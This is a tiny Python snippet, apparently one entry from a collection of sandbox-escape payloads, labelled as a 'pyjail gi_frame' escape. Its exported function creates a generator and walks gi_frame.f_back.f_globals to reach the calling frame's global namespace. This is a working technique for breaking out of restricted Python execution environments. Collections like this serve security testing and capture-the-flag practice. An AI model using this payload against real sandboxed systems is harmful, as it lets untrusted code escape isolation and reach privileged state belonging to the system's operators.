# escape: generator frame via gi_frame.f_back.f_globals | source: pyjail 'gi_frame' escapes
@export
def attack():
    g = (x for x in [1])
    return g.gi_frame.f_back.f_globals
